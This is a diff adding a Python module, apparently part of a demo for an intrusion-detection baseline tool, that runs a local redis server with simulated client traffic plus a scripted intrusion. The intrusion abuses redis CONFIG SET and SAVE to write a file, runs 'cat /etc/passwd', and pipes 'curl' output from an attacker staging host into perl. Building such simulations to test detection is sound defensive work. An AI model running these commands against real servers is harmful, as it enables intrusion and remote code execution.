@@ -1,0 +1,84 @@
+"""redis, and an intruder who makes it write files."""
+
+import random
+import socket
+import threading
+import time
+from collections.abc import Iterator
+
+from baseline.demo.attacker import attacker
+from baseline.demo.service import Service
+
+_PAUSE = 0.002
+"""Seconds between commands of one client."""
+
+
+class Redis(Service):
+    """redis-server with snapshots and an append-only file."""
+
+    name = "redis"
+    packages = "redis-server curl"
+
+    def start(self) -> None:
+        """Start it and return when it answers."""
+        options = {
+            "port": self.port,
+            "bind": "127.0.0.1",
+            "dir": self.folder,
+            "appendonly": "yes",
+            "save": "5 100",
+        }
+        arguments = [str(word) for name, value in options.items() for word in (f"--{name}", value)]
+        self.cgroup.start(["/usr/bin/redis-server", *arguments])
+        self.await_port()
+
+    def work(self, stop: threading.Event) -> None:
+        """One client that stays, and short ones now and then."""
+        choose = random.Random(0)  # noqa: S311 - not for secrets
+        with _Client(self.port) as staying:
+            while not stop.is_set():
+                key = f"key:{choose.randrange(1000)}"
+                kind = choose.random()
+                if kind < 0.5:
+                    staying.command("GET", key)
+                elif kind < 0.8:
+                    staying.command("SET", key, "x" * choose.randrange(1, 2000))
+                elif kind < 0.9:
+                    staying.command("LPUSH", f"list:{choose.randrange(10)}", key)
+                elif kind < 0.95:
+                    staying.command("EXPIRE", key, "3")
+                else:
+                    with _Client(self.port) as short:
+                        short.command("INFO")
+                time.sleep(_PAUSE * choose.expovariate(1))
+
+    def intrusion(self) -> Iterator[str]:
+        """Files through redis's own commands, then a shell inside the cgroup."""
+        with attacker() as stage, _Client(self.port) as client:
+            yield "has redis write a file elsewhere"
+            client.command("CONFIG", "SET", "dir", "/var/tmp")  # noqa: S108 - the intruder's choice
+            client.command("CONFIG", "SET", "dbfilename", "baseline-demo.rdb")
+            client.command("SAVE")
+            yield "has a shell in the cgroup"
+            self.cgroup.run(["/bin/sh", "-c", "id; cat /etc/passwd; rm /var/tmp/baseline-demo.rdb"])
+            yield f"downloads a tool from {stage} and runs it from memory"
+            self.cgroup.run(["/bin/sh", "-c", f"curl -s {stage} | perl"])
+
+
+class _Client:
+    """A client that speaks as much of redis's protocol (RESP) as is needed here."""
+
+    def __init__(self, port: int) -> None:
+        self._socket = socket.create_connection(("127.0.0.1", port), 10)
+
+    def __enter__(self) -> "_Client":
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._socket.close()
+
+    def command(self, *words: str) -> None:
+        """Send a command and wait until an answer begins to come."""
+        parts = "".join(f"${len(word)}\r\n{word}\r\n" for word in words)
+        self._socket.sendall(f"*{len(words)}\r\n{parts}".encode())
+        self._socket.recv(65536)
